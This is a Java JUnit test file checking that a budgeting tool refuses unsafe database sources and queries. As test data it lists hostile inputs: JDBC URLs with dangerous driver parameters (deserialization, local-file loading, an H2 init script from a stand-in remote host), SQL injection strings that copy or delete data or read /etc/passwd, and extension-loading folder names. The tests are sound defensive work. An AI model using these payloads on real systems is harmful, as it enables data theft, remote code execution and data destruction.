package io.github.budget4s.sources;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.budget4s.golden.CommandRun;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A project may come from a stranger: what it says of databases must not do anything unseen. */
class SourceSafetyTest {

    private static final String SECRET = "geheim-42";

    @TempDir
    private Path folder = Path.of("");

    @BeforeEach
    void makeDatabases() throws SQLException, IOException {
        try (Connection connection = DriverManager.getConnection("jdbc:duckdb:" + folder.resolve("dms.db"));
                Statement statement = connection.createStatement()) {
            statement.execute(
                    "CREATE TABLE orders AS SELECT DATE '2023-01-01' + CAST(i % 1096 AS INTEGER) AS order_date,"
                            + " 'S' || (i % 3) AS store, 1 AS units FROM range(5000) t(i)");
            Files.createDirectories(folder.resolve("lake"));
            statement.execute("COPY (SELECT * FROM orders WHERE order_date < DATE '2024-07-01') TO '"
                    + folder.resolve("lake/a.parquet") + "'");
            statement.execute("COPY (SELECT * FROM orders WHERE order_date >= DATE '2024-07-01') TO '"
                    + folder.resolve("lake/b.parquet") + "'");
            statement.execute("COPY orders TO '" + folder.resolve("orders.csv") + "' (HEADER)");
        }
    }

    private CommandRun allocate(String yaml, String sales) throws IOException {
        Files.writeString(folder.resolve("budget4s.yaml"), yaml);
        return CommandRun.of(
                folder,
                Map.of("MY_PASSWORD", SECRET),
                new ByteArrayInputStream(new byte[0]),
                0,
                Locale.ENGLISH,
                "allocate",
                "--total",
                "1000000",
                "--year",
                "2026",
                "--by",
                "store",
                "--sales",
                sales);
    }

    private static String source(String url) {
        return "sources: {dms: {url: \"" + url + "\", user: me, password_env: MY_PASSWORD}}\n";
    }

    @ParameterizedTest
    @CsvSource({
        "MY_PASSWORD, jdbc:oracle:thin:@//127.0.0.1:1521/x, 66, add-driver oracle",
        "MY_PASSWORD, 'jdbc:sqlserver://127.0.0.1;databaseName=x', 66, add-driver sqlserver",
        "NOT_SET, jdbc:postgresql://127.0.0.1:1/x, 64, NOT_SET",
    })
    void whatIsMissingIsNamed(String variable, String url, int code, String told) throws IOException {
        CommandRun run = allocate(source(url).replace("MY_PASSWORD", variable), "dms:orders");

        assertThat(run.err()).contains(told);
        assertThat(run.code()).as(run.err()).isEqualTo(code);
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db.stranger.example/x, 64, BUDGET4S_HOSTS=db.stranger.example",
        "'jdbc:postgresql://127.0.0.1,db.stranger.example/x', 64, BUDGET4S_HOSTS=db.stranger.example",
        "jdbc:mariadb://10.1.2.3:3306/x, 64, BUDGET4S_HOSTS=10.1.2.3",
        "jdbc:postgresql://127.0.0.1/x?socketFactory=org.springframework.context.support.X, 65, socketFactory",
        "jdbc:postgresql://127.0.0.1/x?loggerFile=/tmp/x, 65, loggerFile",
        "jdbc:mysql://127.0.0.1/x?allowLoadLocalInfile=true, 65, allowLoadLocalInfile",
        "jdbc:mysql://127.0.0.1/x?autoDeserialize=true, 65, autoDeserialize",
        "jdbc:mariadb://127.0.0.1/x?allowLocalInfile=true, 65, allowLocalInfile",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://stranger.example/x', 65, jdbc:h2",
        "jdbc:sqlite::resource:http://stranger.example/x.db, 65, no address",
        "jdbc:postgresql://me:geheim-42@db.stranger.example/x, 65, ***@",
        "jdbc:sqlite:not-there.db, 66, not-there.db",
    })
    void addressThatMayDoHarmIsRefused(String url, int code, String told) throws IOException {
        CommandRun run = allocate(source(url), "dms:orders");

        assertThat(run.code()).as(run.err()).isEqualTo(code);
        assertThat(run.err()).contains(told).doesNotContain(SECRET);
        assertThat(run.out()).isEmpty();
        assertThat(folder.resolve("not-there.db")).doesNotExist();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DELETE FROM orders",
                "COPY orders TO 'stolen.csv'",
                "SELECT * FROM orders) q; COPY orders TO 'stolen.csv'; SELECT * FROM (SELECT 1",
                "SELECT * FROM orders -- and nothing else",
                "SELECT * FROM orders /* no */",
                "INSTALL httpfs",
                "ATTACH 'other.db'",
                "SELECT order_date, store, content AS units FROM orders, read_text('/etc/passwd')",
                "SELECT * FROM read_csv('orders.csv')",
                "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
            })
    void queryThatDoesMoreThanToReadIsRefused(String query) throws IOException {
        CommandRun run = allocate(
                source("jdbc:duckdb:dms.db") + "sales: {source: dms, query: \"" + query + "\"}\n", "dms:(sales)");

        assertThat(run.code()).as(run.err()).isEqualTo(65);
        assertThat(run.err()).doesNotContain("root:");
        assertThat(folder.resolve("stolen.csv")).doesNotExist();
        assertThat(allocate(source("jdbc:duckdb:dms.db"), "dms:orders").code()).isZero();
    }

    @Test
    void queryAndParquetSayWhatTheFileSays() throws IOException {
        String ofFile = allocate(source("jdbc:duckdb:dms.db"), "orders.csv").out();
        CommandRun ofQuery = allocate(
                source("jdbc:duckdb:dms.db") + "sales: {source: dms, query: \"SELECT * FROM orders\"}\n",
                "dms:(sales)");
        CommandRun ofParquet = allocate("year: 2026\n", "lake/*.parquet");

        assertThat(ofFile).hasLineCount(37);
        assertThat(ofQuery.out()).as(ofQuery.err()).isEqualTo(ofFile);
        assertThat(ofParquet.out()).as(ofParquet.err()).isEqualTo(ofFile);
    }

    @Test
    void fileWithThePasswordIsItsOwners() throws IOException {
        Path password = Files.writeString(folder.resolve("password"), SECRET);
        Files.setPosixFilePermissions(password, PosixFilePermissions.fromString("rw-r--r--"));
        CommandRun run = allocate(
                "sources: {dms: {url: \"jdbc:postgresql://127.0.0.1:1/x\", user: me, password_file: password}}\n",
                "dms:orders");
        assertThat(run.code()).isEqualTo(65);
        assertThat(run.err()).contains("600").doesNotContain(SECRET);

        Files.setPosixFilePermissions(password, PosixFilePermissions.fromString("rw-------"));
        assertThat(allocate(
                                "sources: {dms: {url: \"jdbc:postgresql://127.0.0.1:1/x\", user: me, password_file:"
                                        + " password}}\n",
                                "dms:orders")
                        .code())
                .isEqualTo(66);
    }

    /**
     * The driver takes the address apart again, in which the folder's name then stands: such a name had it allow
     * {@code SELECT load_extension('evil.so')}.
     */
    @ParameterizedTest
    @CsvSource({"sqlite, orders?enable_load_extension=true", "duckdb, orders;allow_unsigned_extensions=true"})
    void folderIsNotNamedAsParametersOfTheDriver(String engine, String name) throws SQLException, IOException {
        Path project = Files.createDirectories(folder.resolve(name));
        String url = "jdbc:" + engine + ":" + folder.resolve("own.db");
        try (Connection connection = DriverManager.getConnection(url);
                Statement statement = connection.createStatement()) {
            statement.execute("CREATE TABLE orders (order_date VARCHAR(10), units INTEGER)");
        }
        Files.move(folder.resolve("own.db"), project.resolve("own.db"));
        Files.writeString(
                project.resolve("budget4s.yaml"),
                source("jdbc:" + engine + ":own.db") + "sales: {source: dms, query: \"SELECT * FROM orders\"}\n");

        CommandRun run = CommandRun.of(
                project,
                Map.of("MY_PASSWORD", SECRET),
                new ByteArrayInputStream(new byte[0]),
                0,
                Locale.ENGLISH,
                "inspect");

        assertThat(run.code()).as(run.err()).isEqualTo(65);
        assertThat(run.err())
                .contains("the path of the database")
                .contains(name)
                .contains("parameters");
    }

    /** What answers there is no database: its driver must not have the last word. */
    @ParameterizedTest
    @ValueSource(strings = {"mariadb", "mysql", "postgresql"})
    @Timeout(60)
    void aServerThatIsNoneIsSaidToBeUnreachable(String kind) throws Exception {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread answers = new Thread(() -> answerWithZeros(server));
            answers.setDaemon(true);
            answers.start();

            CommandRun run =
                    allocate(source("jdbc:" + kind + "://127.0.0.1:" + server.getLocalPort() + "/x"), "dms:orders");

            assertThat(run.code()).as(run.err()).isEqualTo(66);
            assertThat(run.err()).startsWith("dms: ");
        }
    }

    private static void answerWithZeros(ServerSocket server) {
        while (!server.isClosed()) {
            try (Socket socket = server.accept()) {
                while (true) {
                    socket.getOutputStream().write(new byte[1 << 16]);
                }
            } catch (IOException e) {
                // The client has seen enough; the next attempt may come.
                continue;
            }
        }
    }

    private CommandRun ofView(String view) throws SQLException, IOException {
        try (Connection connection = DriverManager.getConnection("jdbc:sqlite:" + folder.resolve("lite.db"));
                Statement statement = connection.createStatement()) {
            statement.execute("CREATE VIEW orders AS " + view);
        }
        return allocate("sources: {dms: {url: \"jdbc:sqlite:lite.db\", timeout_seconds: 1}}\n", "dms:orders");
    }

    @Test
    @Timeout(120)
    void aViewWithoutEndIsBrokenOff() throws SQLException, IOException {
        CommandRun run = ofView("WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM c)"
                + " SELECT '2025-01' AS month, i AS units FROM c");

        assertThat(run.code()).as(run.err()).isEqualTo(74);
        assertThat(run.err()).contains("the statement was broken off").contains("timeout_seconds");
    }

    @Test
    void aValueOfMegabytesIsNotRead() throws SQLException, IOException {
        CommandRun run = ofView("SELECT '2025-01' AS month, hex(zeroblob(3000000)) AS units");

        assertThat(run.code()).as(run.err()).isEqualTo(65);
        assertThat(run.err()).contains("too big");
    }
}
